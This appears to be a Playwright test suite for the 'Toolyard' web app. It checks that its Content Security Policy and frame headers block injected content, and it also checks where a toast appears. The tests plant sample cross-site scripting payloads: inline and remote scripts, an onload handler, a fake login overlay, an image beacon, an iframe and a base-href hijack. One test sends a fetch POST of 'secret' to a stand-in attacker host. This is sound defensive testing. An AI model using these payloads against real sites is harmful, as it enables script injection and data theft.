import type { Page } from '@playwright/test';
import { expect, opened, test } from './support/test.ts';

/** Records what the content policy of each document blocks, by directive. */
async function watchRefusals(page: Page): Promise<string[]> {
  const refused: string[] = [];
  await page.exposeFunction('noteDirective', (directive: string) => void refused.push(directive));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      const note: (directive: string) => void = Reflect.get(window, 'noteDirective');
      note(effectiveDirective);
    });
  });
  return refused;
}

/** Serves the page at `path` with `html` injected, as a rendering vulnerability would. */
async function plant(page: Page, path: string, html: string): Promise<void> {
  await page.route(path, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('</main>', `${html}</main>`);
    expect(body).toContain(html);
    await route.fulfill({ response, body });
  });
}

test.describe('injected markup', { tag: ['@desk', '@sweep'] }, () => {
  // React detects markup that it did not render (its error 418), and renders the page again.
  test.use({ expectedErrors: /Content Security Policy|React error #418/ });

  const planted: [name: string, html: string, directive: string][] = [
    ['an inline script', `<script>document.title='stolen'</script>`, 'script-src-elem'],
    ['a script of another site', `<script src="https://evil.example/x.js"></script>`, 'script-src-elem'],
    [
      'a handler in an attribute',
      `<svg onload="document.title='stolen'" width="1" height="1"></svg>`,
      'script-src-attr',
    ],
    ['a style that covers the page', `<style>main{display:none}</style>`, 'style-src-elem'],
    ['a style in an attribute', `<p style="position:fixed;inset:0">Log in here</p>`, 'style-src-attr'],
    ['a picture that tells', `<img src="https://evil.example/?seen" alt="">`, 'img-src'],
    ['a frame', `<iframe src="https://evil.example/"></iframe>`, 'frame-src'],
    ['another base for every link', `<base href="https://evil.example/">`, 'base-uri'],
  ];

  for (const [name, html, directive] of planted) {
    test(`does nothing: ${name}`, async ({ page }) => {
      const refused = await watchRefusals(page);
      await plant(page, '/about', html);
      await page.goto('/about');
      await expect.poll(() => refused).toContain(directive);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await expect(page).toHaveTitle('About us – Toolyard');
    });
  }
});

test.describe('a script created in the page', { tag: '@desk' }, () => {
  test.use({ expectedErrors: /Content Security Policy/ });

  test('does not run, and reaches no other site', async ({ page }) => {
    const refused = await watchRefusals(page);
    await opened(page, '/tools');
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = "document.title = 'stolen'";
      document.head.append(script);
    });
    await expect.poll(() => refused).toEqual(['script-src-elem']);
    const told = page.evaluate(() => fetch('https://evil.example/', { method: 'POST', body: 'secret' }));
    await expect(told).rejects.toThrow('Failed to fetch');
    await expect.poll(() => refused).toEqual(['script-src-elem', 'connect-src']);
    await expect(page).toHaveTitle('Tools – Toolyard');
  });
});

/** The URL that a frame on another site shows after loading the shop's `url`. */
async function framed(page: Page, url: string): Promise<string> {
  await page.route('http://127.0.0.1:1/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${url}"></iframe>` }),
  );
  await page.goto('http://127.0.0.1:1/');
  return page.frames()[1]?.url() ?? 'no frame';
}

test('other sites cannot show a page in a frame', { tag: ['@desk', '@sweep'] }, async ({ page, baseURL }) => {
  for (const path of ['/', '/login', '/dashboard', '/api-reference', '/mailbox'])
    expect(await framed(page, `${baseURL}${path}`)).toMatch(/^chrome-error:/);
});

test.describe('a page without the two headers', { tag: ['@desk', '@sweep'] }, () => {
  // Browsers give a cross-site frame no storage.
  test.use({ expectedErrors: /^SecurityError: Failed to read the 'sessionStorage'/ });

  test('can be shown in a frame', async ({ page, baseURL }) => {
    await page.route('/about', async (route) => {
      const response = await route.fetch();
      const headers = response.headers();
      delete headers['content-security-policy'];
      delete headers['x-frame-options'];
      await route.fulfill({ status: 200, headers, body: await response.body() });
    });
    expect(await framed(page, `${baseURL}/about`)).toBe(`${baseURL}/about`);
  });
});

test('a toast shows at the top right', async ({ page }) => {
  await opened(page, '/');
  await page.getByRole('button', { name: 'Submit' }).scrollIntoViewIfNeeded();
  await page.getByLabel('Full Name').fill('Cora Mason');
  await page.getByLabel('Email').fill('cora@mason.com');
  await page.getByLabel('Phone Number').fill('+1 555 010 0199');
  await page.getByRole('button', { name: 'Submit' }).click();
  const toasts = page.getByRole('region', { name: 'Notifications' }).getByRole('list');
  await expect(toasts.getByRole('listitem')).toBeVisible();
  const isPhone = (page.viewportSize()?.width ?? 0) < 600;
  const place = await toasts.evaluate((list) => {
    const { position, top, right } = getComputedStyle(list);
    return { position, top, right };
  });
  expect(place).toEqual({ position: 'fixed', top: isPhone ? '72px' : '80px', right: '16px' });
});
